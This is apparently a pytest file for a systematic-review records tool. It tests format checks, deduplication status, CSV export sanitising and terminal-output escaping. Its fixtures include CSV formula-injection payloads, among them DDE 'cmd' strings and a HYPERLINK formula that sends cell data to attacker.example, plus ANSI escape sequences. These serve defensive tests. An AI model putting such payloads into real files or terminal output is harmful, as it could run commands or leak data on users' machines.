"""Issue 9 in the records layer: a forced --format that does not fit the content (point 6), the
deduplication status after a new import (8), formula injection through the decisions CSV (13)
and terminal escape injection through record text (14)."""

from __future__ import annotations

import csv
import io
import json
import warnings
from pathlib import Path

import pytest

from evsynth.cli import main
from evsynth.errors import InputError
from evsynth.records import read
from evsynth.records.io import FORMAT_NAMES, FORMATS, check_format
from evsynth.records.model import records_frame
from evsynth.records.screener import KeyReader, Screener
from evsynth.records.screening import export_decisions, import_decisions
from evsynth.records.settings import ScreeningSettings
from evsynth.records.store import Store
from evsynth.textsafe import CSV_TRIGGERS

SHARED_RECORDS = Path(__file__).resolve().parents[3] / "shared" / "data" / "records"
MEDLINE = SHARED_RECORDS / "medline" / "revtools_restoration" / "restoration_pubmed.nbib"


def run(capsys, *argv) -> tuple[int, str, str]:
    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


def _exports() -> list[tuple[Path, str]]:
    """(file, format) of every real export in ../shared (the folder names the format)."""
    if not SHARED_RECORDS.is_dir():
        return []
    return [(p, p.relative_to(SHARED_RECORDS).parts[0]) for p in sorted(SHARED_RECORDS.rglob("*"))
            if p.is_file() and p.name != "README.md" and "merged_record_ids" not in p.name]


needs_shared = pytest.mark.skipif(not SHARED_RECORDS.is_dir(),
                                  reason="../shared/data/records is not present")


# ----------------------------------------------------------------------------- point 6
@needs_shared
def test_issue_case_ris_forced_on_medline(tmp_path, capsys):
    """`records import --format ris` on a MEDLINE file: exit 2, file and real format named,
    nothing stored."""
    review = tmp_path / "review"
    review.mkdir()
    code, out, err = run(capsys, "records", "import", review, MEDLINE, "--database", "MEDLINE",
                         "--format", "ris")
    assert code == 2 and out == ""
    assert str(MEDLINE) in err and "'ris' was given" in err
    assert "looks like MEDLINE/PubMed text ('medline')" in err
    if (review / "evsynth.sqlite").exists():
        with Store(review) as s:
            assert s.n_records() == 0
    # the right format, or none, imports it
    code, out, err = run(capsys, "records", "import", review, MEDLINE, "--database", "MEDLINE",
                         "--format", "medline")
    assert code == 0, err
    assert "104 records read [MEDLINE]" in out


@needs_shared
@pytest.mark.parametrize("path, fmt", _exports(), ids=lambda x: getattr(x, "name", x))
def test_forced_formats_on_real_exports(path, fmt):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        assert len(read(path, fmt)) > 0  # its own format is accepted
        for other in ("ris", "medline") if fmt not in ("ris", "medline") else \
                (("medline", "wos") if fmt == "ris" else ("ris", "pubmed_xml")):
            with pytest.raises(InputError) as exc:
                read(path, other)
            msg = str(exc.value)
            assert msg.startswith(str(path)) and f"the format {other!r} was given" in msg
            assert f"looks like {FORMAT_NAMES[fmt]} ({fmt!r})" in msg


@pytest.mark.parametrize("fmt", sorted(set(FORMATS) - {"csv"}))
def test_forced_format_on_content_of_no_format(tmp_path, fmt):
    p = tmp_path / "notes.txt"
    p.write_text("Just some prose about a review.\nNothing tagged here.\n", encoding="utf-8")
    with pytest.raises(InputError, match=rf"notes.txt: the format '{fmt}' was given but the "
                                         r"content does not look like"):
        read(p, fmt)


def test_check_format_messages():
    check_format("TY  - JOUR\nTI  - x\nER  - \n", "ris", "a.ris")
    with pytest.raises(InputError, match=r"a.ris: .*'medline' was given.*looks like RIS"):
        check_format("TY  - JOUR\nTI  - x\nER  - \n", "medline", "a.ris")
    with pytest.raises(InputError, match="looks like PubMed XML"):
        check_format("<?xml version='1.0'?><PubmedArticleSet><PubmedArticle/>"
                     "</PubmedArticleSet>", "endnote_xml", "x.xml")


# ----------------------------------------------------------------------------- point 8
RIS_A = "".join(f"TY  - JOUR\nTI  - Trial number {i} of something\nPY  - 2001\nER  - \n\n"
                for i in range(1, 4))
RIS_B = "".join(f"TY  - JOUR\nTI  - Another study {i}\nPY  - 2010\nER  - \n\n"
                for i in range(1, 3))


def test_dedup_status_belongs_to_the_records_it_ran_on(tmp_path, capsys, monkeypatch):
    monkeypatch.setattr("sys.stdin", io.StringIO("q\n"))
    review = tmp_path / "review"
    review.mkdir()
    (tmp_path / "a.ris").write_text(RIS_A, encoding="utf-8")
    (tmp_path / "b.ris").write_text(RIS_B, encoding="utf-8")
    assert run(capsys, "records", "import", review, tmp_path / "a.ris", "--database", "X")[0] == 0
    assert "(not deduplicated yet)" in run(capsys, "records", "status", review)[1]
    assert run(capsys, "records", "dedup", review)[0] == 0
    assert "(deduplicated)" in run(capsys, "records", "status", review)[1]
    # a new import: the new records have not been deduplicated
    assert run(capsys, "records", "import", review, tmp_path / "b.ris", "--database", "Y")[0] == 0
    out = run(capsys, "records", "status", review)[1]
    assert "(deduplicated)" not in out
    assert "not deduplicated: 2 records imported since the last deduplication" in out
    with Store(review) as s:
        assert not s.deduplicated() and s.undeduplicated() == ["b.ris:1", "b.ris:2"]
    # the screener says so too
    code, _, err = run(capsys, "screen", review, "--stage", "title-abstract", "--reviewer", "AB")
    assert code == 0 and "2 records imported since the last deduplication" in err
    assert run(capsys, "records", "dedup", review)[0] == 0
    assert "(deduplicated)" in run(capsys, "records", "status", review)[1]
    with Store(review) as s:
        assert s.deduplicated() and s.undeduplicated() == []


def test_empty_store_is_not_deduplicated(tmp_path):
    with Store(tmp_path) as s:
        assert not s.deduplicated() and s.undeduplicated() == []


# ----------------------------------------------------------------------------- point 13
PAYLOADS = ["=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            '=HYPERLINK("http://attacker.example/?x="&A1,"Click")', "'=already quoted"]


def _injected_store(path: Path) -> Store:
    path.mkdir(exist_ok=True)
    s = Store(path)
    recs = [dict(record_id=f"-evil{i}.ris:1" if i == 0 else f"r.ris:{i}", title=t,
                 authors=["Doe, J"], year=2001) for i, t in enumerate(PAYLOADS)]
    s.add_import(records_frame(recs), "r.ris", "X", sha256="r")
    for i, (rec, p) in enumerate(zip(recs, PAYLOADS, strict=True)):
        s.add_decision(rec["record_id"], "title-abstract", "exclude",
                       PAYLOADS[(i + 1) % len(PAYLOADS)], reason=p.strip() or "x",
                       note=PAYLOADS[(i + 2) % len(PAYLOADS)])
    return s


def test_decisions_csv_neutralised_and_lossless(tmp_path, capsys):
    store = _injected_store(tmp_path / "a")
    out = tmp_path / "decisions.csv"
    assert export_decisions(store, out) == len(PAYLOADS)
    text = out.read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(PAYLOADS) + 1
    for row in rows:  # what a spreadsheet sees: no cell starts a formula
        assert not any(c.startswith(CSV_TRIGGERS) for c in row), row
    assert any(c == "'=cmd|' /C calc'!A0" for row in rows for c in row)
    # import into a second store with the same records: identical decisions
    (tmp_path / "b").mkdir()
    store2 = Store(tmp_path / "b")
    store2.add_import(store.records(), "r.ris", "X", sha256="r")
    assert import_decisions(store2, out) == len(PAYLOADS)
    cols = ["record_id", "stage", "decision", "reason", "reviewer", "kind", "decided_at"]
    a = store.decision_history()[cols + ["note"]]
    b = store2.decision_history()[cols + ["note"]]
    assert a[cols].to_dict("records") == b[cols].to_dict("records")
    # notes are stripped on import (as before); everything else is exact
    assert [str(x).strip() for x in a["note"]] == list(b["note"])
    # a second export over the same file is refused; --force replaces it
    before = out.read_bytes()
    with pytest.raises(InputError, match="decisions.csv: exists.*--force"):
        export_decisions(store, out)
    assert out.read_bytes() == before
    assert export_decisions(store, out, force=True) == len(PAYLOADS)
    store.close()
    store2.close()


def test_decisions_export_cli_refuses_existing_file(tmp_path, capsys):
    _injected_store(tmp_path / "a").close()
    user = tmp_path / "thesis.csv"
    user.write_text("my own data\n", encoding="utf-8")
    code, _, err = run(capsys, "records", "decisions-export", tmp_path / "a", user)
    assert code == 2 and "thesis.csv: exists" in err and "--force" in err
    assert user.read_text(encoding="utf-8") == "my own data\n"
    code, out, _ = run(capsys, "records", "decisions-export", tmp_path / "a", user, "--force")
    assert code == 0 and f"{len(PAYLOADS)} decisions written" in out


# ----------------------------------------------------------------------------- point 14
EVIL = "\x1b[2J\x1b[31mEvil title\x07\x9b2J"


def _evil_store(path: Path) -> Store:
    s = Store(path)
    s.add_import(records_frame([dict(record_id="e.ris:1", title=EVIL, abstract=f"abs {EVIL}",
                                     authors=[f"Doe{EVIL}"], keywords=[f"kw{EVIL}"],
                                     journal=f"J{EVIL}", year=2001)]), "e.ris", "X",
                 sha256="e")
    return s


@pytest.fixture
def legacy_names(monkeypatch):
    """Reviewer names with control characters, as a store written before names were checked
    may hold (the store refuses them now: test_reviewer_names_and_times_are_checked): the
    display must still show them inert."""
    monkeypatch.setattr("evsynth.records.store.has_control", lambda text: False)


@pytest.mark.parametrize("color", [False, True])
def test_screener_shows_control_characters_inert(tmp_path, color, legacy_names):
    store = _evil_store(tmp_path)
    out = io.StringIO()
    Screener(store, "title-abstract", "A\x1b[8mB", ScreeningSettings(highlight_terms=("title",)),
             keys=KeyReader(io.StringIO("i\n")), out=out, color=color).run()
    text = out.getvalue()
    assert "\x1b[2J" not in text and "\x1b[8m" not in text and "\x07" not in text
    assert "\x9b" not in text and "\x1b[31mEvil" not in text
    assert "^[[2J^[[31m" in text and "^G" in text and "M-^[2J" in text  # shown, inert
    assert "A^[[8mB" in text  # the reviewer name too
    if color:
        assert "\x1b[1;30;43mtitle\x1b[0m" in text  # evsynth's own highlighting still works
    else:
        assert "\x1b" not in text
    store.close()


def test_screen_and_conflicts_cli_escape_record_text(tmp_path, capsys, monkeypatch,
                                                    legacy_names):
    _evil_store(tmp_path).close()
    monkeypatch.setattr("sys.stdin", io.StringIO("q\n"))
    code, out, err = run(capsys, "screen", tmp_path, "--stage", "title-abstract",
                         "--reviewer", "AB")
    assert code == 0 and "^[[2J^[[31mEvil title^G" in out and "\x1b[2J" not in out
    with Store(tmp_path) as s:
        s.add_decision("e.ris:1", "title-abstract", "include", "AB")
        s.add_decision("e.ris:1", "title-abstract", "exclude", "C\x1b]0;pwned\x07D")
    code, out, err = run(capsys, "records", "conflicts", tmp_path)
    assert code == 0 and "\x1b" not in out and "\x07" not in out
    assert "C^[]0;pwned^GD: exclude" in out and "^[[2J^[[31mEvil title" in out


def test_reviewer_names_and_times_are_checked(tmp_path, capsys):
    """A reviewer name with a control character (NUL, ESC, bidi override) or a decided_at
    that is not a date and time is refused on the way in (the decisions import stored
    "yesterday" and "R\\x001" before), and an imported screening decision must name a
    configured reviewer, as the screener requires (a resolution may come from an arbiter)."""
    store = _evil_store(tmp_path)
    for name in ("R\x001", "A\x1b[8mB", "Eve\u202e"):
        with pytest.raises(InputError, match="expected a name without control characters"):
            store.add_decision("e.ris:1", "title-abstract", "include", name)
    settings = ScreeningSettings(reviewers=("AB", "CD"))
    header = "record_id,stage,reviewer,decision,kind,decided_at\n"
    cases = [("e.ris:1,title-abstract,AB,include,screen,yesterday\n", "field 'decided_at' is "
              "'yesterday'; expected an ISO 8601"),
             ("e.ris:1,title-abstract,ZZ,include,screen,\n", "field 'reviewer' is 'ZZ', not one "
              "of the reviewers")]
    for row, msg in cases:
        path = tmp_path / "d.csv"
        path.write_text(header + row, encoding="utf-8")
        with pytest.raises(InputError, match=msg):
            import_decisions(store, path, settings)
    path.write_text(header + "e.ris:1,title-abstract,ZZ,include,resolution,"
                    "2026-12-04T10:30:00+00:00\n", encoding="utf-8")
    assert import_decisions(store, path, settings) == 1  # an arbiter's resolution
    store.close()


def test_import_names_what_a_path_is_when_it_is_not_a_file(tmp_path, capsys):
    """A folder or a device was reported as "file not found" (one check: records.io)."""
    (tmp_path / "review").mkdir()
    Store(tmp_path / "review").close()
    (tmp_path / "dir.ris").mkdir()
    for path, what in ((tmp_path / "dir.ris", "a folder"),
                       (Path("/dev/null"), "not a regular file"),
                       (tmp_path / "missing.ris", "no such file")):
        code, _, err = run(capsys, "records", "import", tmp_path / "review", path,
                           "--database", "X")
        assert code == 2 and f"{path}: {what}" in err, err
    with pytest.raises(InputError, match="not a regular file"):
        read(Path("/dev/null"))


def test_cli_errors_and_warnings_escape_file_content(tmp_path, capsys):
    bad = tmp_path / "bad\x1b[2J.ris"
    bad.write_text("TY  - JOUR\nTI  - x\nER  - \n", encoding="utf-8")
    code, _, err = run(capsys, "records", "import", tmp_path / "nope\x1b[31m", bad,
                       "--database", "X")
    assert code == 2 and "\x1b" not in err and "nope^[[31m" in err


def test_cli_output_has_no_control_characters_json(tmp_path, capsys):
    """`search build --json` prints JSON: control characters stay escaped."""
    concepts = tmp_path / "c.json"
    concepts.write_text(json.dumps({"concepts": [{"name": "n", "text_words": ["acne"]}]}),
                        encoding="utf-8")
    code, out, _ = run(capsys, "search", "build", concepts, "--json")
    assert code == 0 and json.loads(out)["query"] == "acne[tiab]"
